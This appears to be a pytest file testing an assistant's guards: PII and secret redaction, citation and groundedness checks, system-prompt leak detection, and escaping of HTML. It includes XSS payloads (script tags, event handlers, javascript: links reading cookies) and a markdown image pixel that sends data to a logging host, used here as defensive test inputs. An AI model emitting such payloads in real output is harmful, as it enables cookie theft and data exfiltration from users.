"""Guards: PII/secret redaction and the output checks (prompt injection: test_injection.py;
no network and import side effects: test_guards_offline.py).

Examples here are written for the tests; the red-team corpus is measured separately by
`python -m evals.redteam_eval`.
"""

from __future__ import annotations

import json

import pytest

from assistant.guards.guards import GUARD_RULES_VERSION, Guards
from assistant.guards.pii import iban_valid, luhn_valid
from assistant.prompt import SYSTEM_PROMPT
from assistant.records import PII_IN_OUTPUT, SYSTEM_PROMPT_LEAK, UNGROUNDED, Passage


@pytest.fixture(scope="module")
def guards() -> Guards:
    return Guards(SYSTEM_PROMPT)


def passage(n: int, text: str, source: str = "doc.md") -> Passage:
    return Passage(n, f"{source}#{n}", source, "", text, 0.8, 0, len(text))


LORA = passage(1, "LoRA freezes the original weights of the model and trains two small low-rank "
                  "matrices, A and B. The adapter file is only a few megabytes in size.", "lora.md")
QLORA = passage(2, "QLoRA quantizes the frozen base model to 4-bit NF4 and trains LoRA adapters "
                   "on top of it, which saves a lot of GPU memory.", "qlora.md")


# -- PII ---------------------------------------------------------------------------------------

PII_CASES = [
    ("email", "Write to jana.novak+test@mail.example.org about it.",
     "jana.novak+test@mail.example.org", "[EMAIL]"),
    ("phone international", "Ring +44 20 7946 0991 after six.", "+44 20 7946 0991", "[PHONE]"),
    ("phone US", "My cell is (555) 013-2299.", "(555) 013-2299", "[PHONE]"),
    ("phone US dotted", "Call 212.555.0148 tomorrow.", "212.555.0148", "[PHONE]"),
    ("phone UK mobile", "Mobile 07700 900312 works.", "07700 900312", "[PHONE]"),
    ("phone DE", "Erreichbar unter 0170 98765432.", "0170 98765432", "[PHONE]"),
    ("phone DE international", "Tel. +49 40 55512345 bitte.", "+49 40 55512345", "[PHONE]"),
    ("card visa grouped", "Card 4111 1111 1111 1111 expires soon.", "4111 1111 1111 1111",
     "[CARD]"),
    ("card amex dashed", "Amex 3782-822463-10005 is mine.", "3782-822463-10005", "[CARD]"),
    ("card plain", "Pay with 5555555555554444 please.", "5555555555554444", "[CARD]"),
    ("iban DE grouped", "IBAN DE89 3704 0044 0532 0130 00 for refunds.",
     "DE89 3704 0044 0532 0130 00", "[IBAN]"),
    ("iban GB compact", "Use GB82WEST12345698765432 now.", "GB82WEST12345698765432", "[IBAN]"),
    ("ssn", "SSN 123-45-6789 on file.", "123-45-6789", "[SSN]"),
    ("nino spaced", "NI number QQ 12 34 56 C here.", "QQ 12 34 56 C", None),
    ("nino compact", "NINO AB123456C please.", "AB123456C", "[NI_NUMBER]"),
]


@pytest.mark.parametrize("name,text,value,label", PII_CASES, ids=[c[0] for c in PII_CASES])
def test_each_pii_kind_is_redacted(guards, name, text, value, label):
    verdict = guards.check_input(text)
    if label is None:  # QQ is not an issued NINO prefix: must stay
        assert verdict.text == text
        return
    assert value not in verdict.text
    assert label in verdict.text
    assert not verdict.blocked
    assert verdict.message.startswith("I removed")


LOOKALIKES = [
    "Order 4111 1111 1111 1112 shipped.",  # fails Luhn
    "Reference 1234567812345678 is pending.",  # fails Luhn
    "Is DE89 3704 0044 0532 0130 01 right? I mistyped it.",  # mod-97 fails
    "ISBN 978-0-306-40615-7 is a good book.",
    "We run torch 2.13.0 and transformers 5.24.1.",
    "The run on 2024-11-05 took 00:41:07.",
    "Trace id 550e8400-e29b-41d4-a716-446655440000 failed.",
    "Commit 9fceb02d0ae598e95dc970b74767f19372d61af8 fixed it.",
    "Is sk-learn an alias for scikit-learn?",
    "Keys that start with AKIA are AWS access keys.",
    "Area 666-12-3456 is never issued.",  # invalid SSN area
    "Ticket 000-12-3456 is a test.",  # invalid SSN area
    "Invoice INV 3301-0042 and order ORD-2025-004417.",
    "Set the seed to 9876543210.",
    "The server listens on 127.0.0.1:8443.",
]


@pytest.mark.parametrize("text", LOOKALIKES)
def test_lookalikes_are_not_redacted(guards, text):
    verdict = guards.check_input(text)
    assert verdict.text == text
    assert verdict.message == ""


def test_checksums():
    assert luhn_valid("4111111111111111")
    assert not luhn_valid("4111111111111112")
    assert iban_valid("DE89370400440532013000")
    assert iban_valid("GB82 WEST 1234 5698 7654 32")
    assert not iban_valid("DE89370400440532013001")
    assert not iban_valid("DE8937040044053201300")  # wrong length for DE


SECRETS = [
    ("aws", "key AKIAIOSFODNN7EXAMPLE in the config", "AKIAIOSFODNN7EXAMPLE"),
    ("openai project", "token sk-proj-4fJk29XzQw8LmN3pR7tV1yB6cD0eH5gA_kq-ZxW in env",
     "sk-proj-4fJk29XzQw8LmN3pR7tV1yB6cD0eH5gA_kq-ZxW"),
    ("openai", "old key sk-3kf9Qm2Lx8Vb7Np1Zr5Tw0Yc4Hd6Js8G here",
     "sk-3kf9Qm2Lx8Vb7Np1Zr5Tw0Yc4Hd6Js8G"),
    ("github", "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8 leaked",
     "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8"),
    ("slack", "bot xoxb-1234567890-0987654321-AbCdEfGhIjKlMnOp works",
     "xoxb-1234567890-0987654321-AbCdEfGhIjKlMnOp"),
    ("google", "maps AIzaSyD4x9Lq2Wm7Pz3Kc8Vb1Nn6Rt0Yh5Gj2Fe key",
     "AIzaSyD4x9Lq2Wm7Pz3Kc8Vb1Nn6Rt0Yh5Gj2Fe"),
    ("generic assignment", 'api_key = "Zx9#kL2$mQ8vT4wR7pN1"', "Zx9#kL2$mQ8vT4wR7pN1"),
    ("password", "password=hunter2024 is what I use", "hunter2024"),
]


@pytest.mark.parametrize("name,text,value", SECRETS, ids=[s[0] for s in SECRETS])
def test_secrets_are_redacted(guards, name, text, value):
    verdict = guards.check_input(text)
    assert value not in verdict.text
    assert any(d.validator == "secrets" and d.action == "redact" for d in verdict.decisions)


def test_placeholders_and_low_entropy_values_are_not_secrets(guards):
    for text in ("Set api_key=YOUR_API_KEY in .env", "token: <token>", "api_key = abcdefabcdef"):
        assert guards.check_input(text).text == text


def test_decisions_and_messages_never_contain_the_values(guards):
    values = ["maria.lopez@example.com", "4111 1111 1111 1111", "AKIAIOSFODNN7EXAMPLE",
              "+44 20 7946 0991"]
    text = f"I'm {values[0]}, card {values[1]}, key {values[2]}, phone {values[3]}."
    verdict = guards.check_input(text)
    logged = json.dumps(verdict.to_dict()["decisions"]) + verdict.message
    for value in values:
        assert value not in verdict.text
        assert value not in logged
    assert verdict.message == (
        "I removed an API key or token, an email address, a card number and a phone number "
        "from your message before processing it."
    )


# -- output -------------------------------------------------------------------------------------


def test_grounded_answer_passes_unchanged(guards):
    answer = "LoRA freezes the original weights and trains two small matrices [1]."
    verdict = guards.check_output(answer, [LORA, QLORA])
    assert verdict.text == answer
    assert not (verdict.refused or verdict.needs_reask or verdict.dropped_sentences)
    assert verdict.message == ""
    assert {d.validator for d in verdict.decisions} >= {
        "system_prompt_leak", "citations", "groundedness", "pii", "secrets", "html", "length"}


def test_unsupported_sentences_are_dropped_and_said(guards):
    answer = ("LoRA freezes the original weights and trains two small matrices [1]. "
              "LoRA was invented in 1850 by a French admiral [1].")
    verdict = guards.check_output(answer, [LORA, QLORA])
    assert verdict.text == "LoRA freezes the original weights and trains two small matrices [1]."
    assert verdict.dropped_sentences == ["LoRA was invented in 1850 by a French admiral [1]."]
    assert "removed 1 sentence" in verdict.message
    assert not verdict.refused


def test_nothing_supported_asks_again_then_refuses(guards):
    answer = "Paris is the capital of France [1]."
    first = guards.check_output(answer, [LORA], attempt=1)
    assert first.needs_reask and not first.refused and first.reason == UNGROUNDED
    assert "cannot find this in my sources" in guards.reask_instruction(first)
    second = guards.check_output(answer, [LORA], attempt=2)
    assert second.refused and not second.needs_reask and second.reason == UNGROUNDED


def test_unverified_answers_keep_unsupported_sentences_with_a_warning(guards):
    verdict = guards.check_output("Paris is the capital of France [1].", [LORA], unverified=True)
    assert verdict.text == "Paris is the capital of France [1]."
    assert verdict.low_confidence and not (verdict.refused or verdict.needs_reask)
    assert "weakly supported" in verdict.message


def test_uncited_sentence_supported_by_some_passage_is_kept_and_cited(guards):
    answer = "QLoRA quantizes the base model to 4-bit NF4."
    verdict = guards.check_output(answer, [LORA, QLORA])
    assert verdict.text == "QLoRA quantizes the base model to 4-bit NF4 [2]."
    assert not verdict.dropped_sentences
    citations = next(d for d in verdict.decisions if d.validator == "citations")
    assert citations.outcome == "pass" and "cited the supporting source of 1" in citations.detail


def test_invalid_citations_are_removed_and_wrong_ones_repointed(guards):
    answer = ("LoRA trains two small low-rank matrices [7]. "
              "QLoRA quantizes the base model to NF4 [1].")
    verdict = guards.check_output(answer, [LORA, QLORA])
    assert "[7]" not in verdict.text
    assert "NF4 [2]." in verdict.text
    citations = next(d for d in verdict.decisions if d.validator == "citations")
    assert citations.outcome == "fail" and citations.action == "fix"


def test_invalid_citations_can_trigger_a_reask():
    strict = Guards(SYSTEM_PROMPT, policy={"citations": "reask"})
    verdict = strict.check_output("LoRA trains two small low-rank matrices [4].", [LORA])
    assert verdict.needs_reask and verdict.reason == "INVALID_CITATIONS"
    assert "[4]" not in verdict.text


LEAKS = [
    SYSTEM_PROMPT,
    "Sure! " + SYSTEM_PROMPT.split(". ")[1] + ".",
    "I was instructed to answer only from the numbered sources and to cite each sentence's "
    "source number in brackets.",
]


@pytest.mark.parametrize("answer", LEAKS)
def test_system_prompt_leak_is_refused(guards, answer):
    verdict = guards.check_output(answer, [LORA])
    assert verdict.refused and verdict.reason == SYSTEM_PROMPT_LEAK
    assert "instructions" in verdict.message


def test_answer_quoting_a_source_about_citations_is_not_a_leak(guards):
    source = passage(1, "The assistant answers only from the numbered sources and cites the "
                        "source number in brackets after each sentence, like [1].")
    answer = "It answers only from the numbered sources and cites the source number [1]."
    verdict = guards.check_output(answer, [source])
    assert not verdict.refused, verdict.decisions


XSS = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(1)">',
    "[the guide](javascript:alert(document.cookie))",
    "[docs](&#106;avascript:alert(1))",
    "![pixel](https://log.example/p.gif?q=secret)",
    '<a href="javascript:alert(1)">click</a>',
    "<svg onload=alert(1)>",
]


@pytest.mark.parametrize("payload", XSS)
def test_html_and_javascript_are_made_inert(guards, payload):
    verdict = guards.check_output(payload + " [1]", [passage(1, payload)])
    text = verdict.text.lower()
    assert "<script" not in text and "<img" not in text and "<svg" not in text and "<a " not in text
    assert "](javascript" not in text and "](&#106;" not in text and "![" not in text
    html = next(d for d in verdict.decisions if d.validator == "html")
    assert html.outcome == "fail" and html.action == "escape"


def test_plain_text_with_angle_brackets_is_left_alone(guards):
    source = passage(1, "A threshold below 0.5 means x < y for most pairs.")
    verdict = guards.check_output("A threshold below 0.5 means x < y for most pairs [1].", [source])
    assert verdict.text == "A threshold below 0.5 means x < y for most pairs [1]."


def test_pii_in_output_is_redacted_or_refused(guards):
    source = passage(1, "Support is reachable at help.desk@example.com on weekdays.")
    answer = "Support is reachable at help.desk@example.com on weekdays [1]."
    verdict = guards.check_output(answer, [source])
    assert "help.desk@example.com" not in verdict.text and "[EMAIL]" in verdict.text
    strict = Guards(SYSTEM_PROMPT, policy={"output_pii": "refuse"})
    refused = strict.check_output(answer, [source])
    assert refused.refused and refused.reason == PII_IN_OUTPUT
    assert "help.desk@example.com" not in refused.text


def test_long_answers_are_shortened():
    short = Guards(SYSTEM_PROMPT, policy={"max_answer_chars": 80})
    answer = ("LoRA freezes the original weights of the model [1]. It trains two small low-rank "
              "matrices, A and B [1]. The adapter file is only a few megabytes in size [1].")
    verdict = short.check_output(answer, [LORA])
    assert len(verdict.text) <= 80 and verdict.text.endswith("[1].")
    assert any(d.validator == "length" and d.action == "fix" for d in verdict.decisions)


def test_policy_is_validated_and_versioned():
    with pytest.raises(ValueError):
        Guards(SYSTEM_PROMPT, policy={"groundedness": "shrug"})
    with pytest.raises(ValueError):
        Guards(SYSTEM_PROMPT, policy={"no_such_rule": 1})
    assert Guards(SYSTEM_PROMPT).rules_version == GUARD_RULES_VERSION
    assert Guards(SYSTEM_PROMPT, policy={"min_support": 0.6}).rules_version != GUARD_RULES_VERSION
